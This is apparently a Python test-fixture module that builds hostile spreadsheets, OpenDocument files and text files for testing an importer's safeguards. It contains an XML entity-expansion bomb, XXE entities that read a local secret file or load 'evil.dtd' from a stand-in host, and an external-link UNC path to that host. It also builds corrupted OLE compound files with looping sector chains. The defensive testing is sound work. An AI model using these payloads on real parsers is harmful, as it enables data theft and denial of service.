"""Harm that is written in markup, in the streams of old workbooks, in OpenDocument or in plain text."""

import io
import os
import random
import struct
from collections.abc import Callable
from pathlib import Path

from tests.data.hostile_archives import (
    GOOD,
    MAIN,
    MIB,
    OFFICE,
    OLE,
    PACKAGE,
    RELATIONS,
    SECRET,
    STRINGS,
    TYPES,
    WORKBOOK,
    Make,
    archive,
    cell,
    packed,
    parts,
    xml,
)

LAUGHS = (
    "<!DOCTYPE lolz [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
)
FETCH = '<!DOCTYPE x [<!ENTITY fetched SYSTEM "file://{place}">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % outside SYSTEM "http://192.0.2.1/evil.dtd"> %outside;]>'
ELSEWHERE = '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">'


def with_type(part: str, doctype: str, used: str = "") -> Make:
    """A workbook with a document type in this part; `used` takes the place of a text in it."""

    def make(path: Path) -> None:
        secret = path.with_name("secret.txt")
        secret.write_text(SECRET)
        made = parts()
        text = str(made[part]).replace("?>\n", "?>\n" + doctype.replace("{place}", str(secret)), 1)
        made[part] = text.replace("Reference", used, 1) if used else text
        archive(path, made)

    return make


def behind_blanks(path: Path) -> None:
    made = parts()
    made[STRINGS] = " " * 200_000 + LAUGHS + str(made[STRINGS]).partition("?>")[2].replace("Reference", "&a9;", 1)
    archive(path, made)


def in_other_bytes(path: Path) -> None:
    made = parts()
    content = str(made[STRINGS]).replace("UTF-8", "UTF-16").replace("?>\n", "?>\n" + LAUGHS, 1)
    made[STRINGS] = content.encode("utf-16")
    archive(path, made)


def deep(levels: int) -> str:
    return "<a>" * levels + "</a>" * levels


def noise(length: int) -> str:
    """Text that packs badly enough not to be refused for that."""
    return random.Random(2).randbytes(length // 2).hex()


def relation(kind: str, target: str, mode: str = "") -> str:
    outside = ' TargetMode="External"' if mode else ""
    rest = f'<Relationship Id="rId3" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
    return xml(
        f'<Relationships xmlns="{PACKAGE}relationships"><Relationship Id="rId1" Type="{OFFICE}/{kind}" '
        f'Target="{target}"{outside}/>{rest}</Relationships>'
    )


def with_link(path: Path) -> None:
    """A workbook that takes a value from another by a link."""
    link = xml(
        f'<externalLink xmlns="{MAIN}"><externalBook xmlns:r="{OFFICE}" r:id="rId1"><sheetNames><sheetName val="a"/>'
        "</sheetNames></externalBook></externalLink>"
    )
    made = parts(cell("12", formula="[1]a!A1"))
    made["xl/externalLinks/externalLink1.xml"] = link
    made["xl/externalLinks/_rels/externalLink1.xml.rels"] = relation(
        "externalLinkPath", "\\\\192.0.2.1\\share\\evil.xlsx", "External"
    )
    made[RELATIONS] = str(made[RELATIONS]).replace(
        "</Relationships>",
        f'<Relationship Id="rId9" Type="{OFFICE}/externalLink" Target="externalLinks/externalLink1.xml"/>'
        "</Relationships>",
    )
    made[WORKBOOK] = str(made[WORKBOOK]).replace(
        "</workbook>", '<externalReferences><externalReference r:id="rId9"/></externalReferences></workbook>'
    )
    archive(path, made)


def with_macros(path: Path) -> None:
    made = parts()
    made[TYPES] = str(made[TYPES]).replace(
        "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main", "vnd.ms-excel.sheet.macroEnabled.main"
    )
    made["xl/vbaProject.bin"] = OLE + random.Random(3).randbytes(5000)
    archive(path, made)


def many_sheets(count: int) -> Make:
    def make(path: Path) -> None:
        made = parts()
        sheets = "".join(f'<sheet name="S{n}" sheetId="{n + 1}" r:id="rId1"/>' for n in range(count))
        made[WORKBOOK] = xml(f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>{sheets}</sheets></workbook>')
        archive(path, made)

    return make


def ole(*streams: str) -> bytes:
    """A compound file as far as the names in its directory go."""
    directory = b"".join((name + "\0").encode("utf-16-le").ljust(128, b"\0") for name in ("Root Entry", *streams))
    return (OLE + bytes(22) + (9).to_bytes(2, "little")).ljust(512, b"\0") + directory.ljust(4096, b"\0")


def old_book(rows: int = 200) -> bytes:
    """A workbook of Excel 97, with enough rows that its stream is a chain of many sectors."""
    import xlwt

    made = xlwt.Workbook()
    sheet = made.add_sheet("Old")
    for number in range(rows):
        for column, text in enumerate(GOOD if number == 0 else (f"A{number}", f"Title {number}")):
            sheet.write(number, column, text)
    stream = io.BytesIO()
    made.save(stream)
    return stream.getvalue()


def old_changed(change: Callable[[bytearray], None]) -> Make:
    def make(path: Path) -> None:
        content = bytearray(old_book())
        change(content)
        path.write_bytes(content)

    return make


def chain_loop(content: bytearray) -> None:
    """Each sector of the stream is followed by itself."""
    table = (int.from_bytes(content[76:80], "little") + 1) * 512
    for sector in range(100):
        struct.pack_into("<L", content, table + 4 * sector, sector)


def directory_loop(content: bytearray) -> None:
    """Each entry of the directory has itself as its neighbour and its child."""
    start = (int.from_bytes(content[48:52], "little") + 1) * 512
    for entry in range(4):
        struct.pack_into("<3L", content, start + 128 * entry + 68, entry, entry, entry)


def record_lengths(content: bytearray) -> None:
    """Every third record of the workbook says that it has 65,535 bytes."""
    at = content.index(b"\x09\x08\x10\x00")
    for number in range(60):
        length = struct.unpack_from("<H", content, at + 2)[0]
        if number % 3 == 2:
            struct.pack_into("<H", content, at + 2, 0xFFFF)
        at += 4 + length


def wide_dimension(content: bytearray) -> None:
    at = content.index(b"\x00\x02\x0e\x00")
    struct.pack_into("<2L2H", content, at + 4, 0, 0xFFFFFFFF, 0, 0xFFFF)


def old_password(content: bytearray) -> None:
    """A FILEPASS record in the place of the first that may be left out, after the beginning of the workbook."""
    at = content.index(b"\x09\x08")
    length = struct.unpack_from("<H", content, at + 2)[0]
    following = at + 4 + length
    struct.pack_into("<H", content, following, 0x2F)


ODS_HEAD = "".join(
    ['<?xml version="1.0" encoding="UTF-8"?><office:document-content']
    + [f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")]
    + [' office:version="1.2">{type}<office:body><office:spreadsheet>']
)
ODS_FOOT = "</office:spreadsheet></office:body></office:document-content>"
ODS_TYPE = "application/vnd.oasis.opendocument.spreadsheet"


def ods_cell(text: str = "x", more: str = "") -> str:
    return f'<table:table-cell office:value-type="string"{more}><text:p>{text}</text:p></table:table-cell>'


def ods_row(cells: str) -> str:
    return f"<table:table-row>{cells}</table:table-row>"


def ods(rows: str, doctype: str = "", manifest: str = "<m/>") -> Make:
    head = ODS_HEAD.replace("{type}", "")
    if doctype:
        head = head.replace("?>", "?>" + doctype, 1)
    table = '<table:table table:name="T">' + ods_row(ods_cell("Reference") + ods_cell("Title"))
    made = {"mimetype": ODS_TYPE, "content.xml": head + table + rows + "</table:table>" + ODS_FOOT}
    return lambda path: archive(path, made | {"META-INF/manifest.xml": manifest})


def text(content: str, encoding: str = "utf-8") -> Make:
    return lambda path: path.write_bytes(content.encode(encoding))


def long_text(start: str, piece: str, times: int) -> Make:
    return lambda path: path.write_text(start + piece * times)


def hole(path: Path) -> None:
    """A text of 300 MB, of which the disk holds a few bytes."""
    path.write_bytes(b"Reference,Title\n")
    os.truncate(path, 300 * MIB)


def open_in_excel(path: Path) -> None:
    """A good file with the mark beside it that Excel leaves while it is open, and a lie in that."""
    path.write_bytes(packed())
    name = "Ann Example\x07<b>"
    path.with_name(f"~${path.name}").write_bytes(bytes([255]) + name.encode().ljust(54) + bytes(110))


def open_in_libreoffice(path: Path) -> None:
    path.write_bytes(packed())
    path.with_name(f".~lock.{path.name}#").write_text(",,machine,28.11.2026 09:00,file:///x;")
